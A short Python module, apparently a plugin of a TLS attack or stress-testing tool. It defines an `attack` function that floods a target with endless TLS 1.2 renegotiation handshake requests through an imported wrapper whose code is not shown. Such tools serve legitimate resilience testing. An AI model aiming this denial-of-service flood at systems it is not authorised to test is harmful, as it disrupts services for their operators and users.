# SPDX-License-Identifier: Apache-2.0
"""Asks for another handshake on a connection that stands, without end (TLS 1.2)."""
from lib.openssl import TLS_1_2, floods_of


def attack(target):
    return floods_of(target, TLS_1_2, "ask_handshakes")
